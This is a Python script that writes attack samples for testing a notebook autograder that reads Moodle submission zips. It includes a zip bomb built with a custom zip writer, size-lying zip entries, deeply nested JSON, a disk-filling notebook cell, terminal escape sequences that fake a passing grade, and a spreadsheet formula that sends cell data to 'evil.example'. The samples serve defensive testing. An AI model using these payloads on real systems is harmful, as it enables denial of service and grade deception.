"""Write the attack samples of issue 9 into a folder: ``python scripts/make_attack_samples.py --out DIR``.

Each sample is one finding of the review: files a student (or a student's kernel) controls, built
to hang, exhaust or mislead the grader. They are generated, never committed: some are large (a
100,000-cell notebook, a 50 MB answer, a zip that claims 900 MiB) and some are not files at all
(a FIFO, a symbolic link to ``/dev/zero``). ``tests/test_attacks.py`` generates them once per session
and checks that each one is contained; ``SAMPLES`` lists them with the finding they reproduce.

Zips are written by a small writer of our own (``_zip``): ``zipfile`` cannot write an entry that
lies about its size, and compressing 900 MiB of zeros would take seconds that a repeated,
independently flushed deflate block does not.

Output is deterministic. Layout under DIR:
  probe/      probe result files as a kernel could leave them (token ``TOKEN``)
  notebooks/  notebooks graded one by one
  names/      tiny notebooks whose file names are the attack
  moodle/     Moodle "Download all submissions" zips
"""

from __future__ import annotations

import argparse
import json
import os
import struct
import sys
import zlib
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

TOKEN = "0123456789abcdef0123456789abcdef"
PROBE_NAMES = ("x",)
DEEP = 100_000
# Retitles the window, erases the line and prints a fake green result ("\u2215" looks like "/", which
# a file name cannot hold).
ESCAPES = "\x1b]0;pwned\x07\x1b[2K\r\x1b[32m[1\u22151] 1234: 40\u221540 auto\x1b[0m"
FORMULA = '=HYPERLINK("evil.example?"&A1,"click")'
# Names that must not escape --out, nor become a script link (a ";" ends the id Moodle-style).
NAME_ATTACKS = ("..ipynb", "...ipynb", "javascript:alert(document.domain);0.ipynb", f"{ESCAPES}.ipynb", f"{FORMULA}.ipynb")

# --- notebooks ---------------------------------------------------------------------------------------


def _nb(cells: list[dict[str, Any]], **metadata: Any) -> dict[str, Any]:
    return {"cells": cells, "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}, **metadata},
            "nbformat": 4, "nbformat_minor": 5}


def _md(src: str, i: int) -> dict[str, Any]:
    return {"cell_type": "markdown", "id": f"md-{i}", "metadata": {}, "source": src}


def _code(src: str, i: int) -> dict[str, Any]:
    return {"cell_type": "code", "id": f"code-{i}", "metadata": {}, "execution_count": None, "outputs": [], "source": src}


def tiny_notebook(code: str = "x = 1") -> bytes:
    return json.dumps(_nb([_md("## Task 2\n### Subtask 1", 0), _code(code, 1)])).encode()


def deep_json(depth: int = DEEP, inner: str = "0") -> str:
    return "[" * depth + inner + "]" * depth


def notebook_deep() -> bytes:
    """A notebook whose metadata nests 100,000 lists: json.loads raises RecursionError."""
    text = json.dumps(_nb([_code("x = 1", 0)]))
    return text.replace('"metadata": {', '"metadata": {"deep": ' + deep_json() + ", ", 1).encode()


def notebook_100k_cells() -> bytes:
    cells = [{"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": ""}] * 100_000
    return json.dumps(_nb(cells)).encode()


def notebook_50mb_answer() -> bytes:
    """Subtask 2.1's written answer is 50 MB of text (words, so similarity tokenizes all of it)."""
    answer = "**Answer:** " + ("because the model overfits the data " * (50 * 2**20 // 36 + 1))[: 50 * 2**20]
    cells = [_md("## Task 2: Fine-tuning\n### Subtask 1: Loading", 0), _md(answer, 1), _code("x = 1", 2)]
    return json.dumps(_nb(cells)).encode()


DISK_CELL = """\
# attack: disk. Writes $ATTACK_DISK_MIB MiB (default 1200) in 16 MiB files into the working folder,
# each under the per-file size limit, so only a quota on the whole folder can stop it.
import os

__block = b"\\x01" * 2**20
for __i in range(int(os.environ.get("ATTACK_DISK_MIB", "1200")) // 16):
    with open(f"fill-{__i:04d}.bin", "wb") as __fh:
        for _ in range(16):
            __fh.write(__block)
print("wrote everything")"""

ERROR_CELL = f"raise ValueError({ESCAPES!r})"

# --- probe results -------------------------------------------------------------------------------------


def probe_payload(value_json: str) -> bytes:
    """A probe result file around ``value_json``, spliced in as text (it may be too deep for json.dumps)."""
    return ('{"token": "' + TOKEN + '", "results": {"x": {"value": ' + value_json + ', "seconds": 0.1}}}').encode()


PROBE_FILES: dict[str, Callable[[], bytes]] = {
    # 512 MiB of float32 when the grader allocated what the entry declares
    "huge-shape.json": lambda: probe_payload('{"__array__": null, "shape": [8192, 16384], "dtype": "float32"}'),
    "deep.json": lambda: probe_payload(deep_json()),
    "lying-array.json": lambda: probe_payload('{"__array__": [1, 2, 3], "shape": [2, 2], "dtype": "int64"}'),
    "wide-dtype.json": lambda: probe_payload('{"__array__": ["a"], "shape": [1], "dtype": "<U999999999"}'),
    "object-dtype.json": lambda: probe_payload('{"__array__": [1], "shape": [1], "dtype": "object"}'),
    "many-null-arrays.json": lambda: probe_payload(
        "[" + ",".join(['{"__array__": null, "shape": [4096, 4096], "dtype": "float32"}'] * 10_000) + "]"),
}
PADDING_BYTES = 600 * 2**20  # a sparse file: no disk used, but a plain read() would take 600 MiB

# --- zips ---------------------------------------------------------------------------------------------


def _deflate_repeated(block: bytes, times: int) -> tuple[bytes, int, int]:
    """Raw deflate data of ``block`` repeated ``times``, crc32 and size; built from one compressed
    copy (a full flush makes each copy independent), so 900 MiB costs milliseconds."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    tail = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)  # an empty final block
    crc = 0
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    return one * times + tail, crc, len(block) * times


def _zip(entries: Sequence[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip of ``(name, data, method, crc, declared_size)`` entries written as given (method 8:
    ``data`` is raw deflate, 0: stored). ``declared_size`` may lie."""
    out = bytearray()
    central = bytearray()
    for name, data, method, crc, size in entries:
        raw = name.encode("utf-8")
        offset = len(out)
        header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, method, 0, 0x21, crc, len(data), size, len(raw), 0)
        out += header + raw + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, method, 0, 0x21, crc, len(data), size,
                               len(raw), 0, 0, 0, 0, 0o100644 << 16, offset) + raw
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(out), 0)
    return bytes(out + central + end)


def _file(name: str, data: bytes) -> tuple[str, bytes, int, int, int]:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return name, c.compress(data) + c.flush(), 8, zlib.crc32(data), len(data)


def _folder(name: str, pid: int) -> str:
    return f"{name}_{pid}_assignsubmission_file_"


def zip_lying_size() -> bytes:
    """Mallory's notebook declares 100 bytes and holds 2 KB: reading it fails its CRC check."""
    honest = _file(f"{_folder('Alice Honest', 1001)}/A3.ipynb", tiny_notebook())
    name, data, method, crc, size = _file(f"{_folder('Mallory Liar', 1002)}/A3.ipynb", tiny_notebook("y = 2" + " " * 2000))
    return _zip([honest, (name, data, method, crc, 100)])


def zip_bomb() -> bytes:
    """0.9 MB that unpacks to 900 MiB (a "notebook") plus 300 MiB of zeros (a "data file")."""
    zeros = bytes(2**20)
    nb_data, nb_crc, nb_size = _deflate_repeated(zeros, 900)
    bin_data, bin_crc, bin_size = _deflate_repeated(zeros, 300)
    return _zip([
        _file(f"{_folder('Alice Honest', 1001)}/A3.ipynb", tiny_notebook()),
        (f"{_folder('Mallory Bomb', 1002)}/A3.ipynb", nb_data, 8, nb_crc, nb_size),
        (f"{_folder('Eve Bomb', 1003)}/data.bin", bin_data, 8, bin_crc, bin_size),
        _file(f"{_folder('Eve Bomb', 1003)}/A3.ipynb", tiny_notebook("z = 3")),
    ])


def zip_duplicate_ids() -> bytes:
    return _zip([
        _file(f"{_folder('Alice Real', 1234)}/A3.ipynb", tiny_notebook("alice = 1")),
        _file(f"{_folder('Mallory Copy', 1234)}/A3.ipynb", tiny_notebook("mallory = 1")),
        _file(f"{_folder('Carol Other', 1235)}/A3.ipynb", tiny_notebook("carol = 1")),
    ])


def zip_file_folder_clash() -> bytes:
    """Bob's folder name is also a file of the zip: unpacking one of the two fails."""
    return _zip([
        _file(_folder("Bob Clash", 2002), b"not a folder"),
        _file(f"{_folder('Bob Clash', 2002)}/A3.ipynb", tiny_notebook("bob = 1")),
        _file(f"{_folder('Carol Fine', 2003)}/A3.ipynb", tiny_notebook("carol = 1")),
    ])


def zip_hostile_names() -> bytes:
    """Participant names that are escape sequences and a spreadsheet formula."""
    return _zip([
        _file(f"{_folder(ESCAPES.replace('_', ' '), 3001)}/A3.ipynb", tiny_notebook()),
        _file(f"{_folder(FORMULA, 3002)}/A3.ipynb", tiny_notebook()),
        _file(f"{_folder('Carol Fine', 3003)}/{ESCAPES}.ipynb", tiny_notebook()),
    ])


ZIPS: dict[str, Callable[[], bytes]] = {
    "lying-size.zip": zip_lying_size,
    "bomb.zip": zip_bomb,
    "duplicate-ids.zip": zip_duplicate_ids,
    "file-folder-clash.zip": zip_file_folder_clash,
    "hostile-names.zip": zip_hostile_names,
}
NOTEBOOKS: dict[str, Callable[[], bytes]] = {
    "deep.ipynb": notebook_deep,
    "cells-100000.ipynb": notebook_100k_cells,
    "answer-50mb.ipynb": notebook_50mb_answer,
    "disk.ipynb": lambda: json.dumps(_nb([_code(DISK_CELL, 0)])).encode(),
    "error-line-escapes.ipynb": lambda: json.dumps(_nb([_code(ERROR_CELL, 0)])).encode(),
}

# --- writing -----------------------------------------------------------------------------------------


def write_all(out: Path) -> dict[str, Path]:
    """Write every sample under ``out``; returns sample name -> path."""
    made: dict[str, Path] = {}
    for sub in ("probe", "notebooks", "names", "moodle"):
        (out / sub).mkdir(parents=True, exist_ok=True)
    for name, make in PROBE_FILES.items():
        made[f"probe/{name}"] = _write(out / "probe" / name, make())
    fifo = out / "probe" / "fifo.json"
    if not fifo.exists():
        os.mkfifo(fifo)
    made["probe/fifo.json"] = fifo
    link = out / "probe" / "symlink.json"
    if not link.is_symlink():
        link.symlink_to("/dev/zero")
    made["probe/symlink.json"] = link
    padding = out / "probe" / "padding.json"
    with open(padding, "wb") as fh:
        fh.write(probe_payload('{"__repr__": "x"}'))
        fh.truncate(PADDING_BYTES)
    made["probe/padding.json"] = padding
    for name, make in NOTEBOOKS.items():
        made[f"notebooks/{name}"] = _write(out / "notebooks" / name, make())
    for name in NAME_ATTACKS:
        made[f"names/{name}"] = _write(out / "names" / name, tiny_notebook())
    for name, make in ZIPS.items():
        made[f"moodle/{name}"] = _write(out / "moodle" / name, make())
    return made


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=(__doc__ or "").split("\n\n")[0])
    parser.add_argument("--out", type=Path, required=True, help="folder to write the samples into")
    args = parser.parse_args(argv)
    for name, path in write_all(args.out).items():
        print(f"{name!r}: {path}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
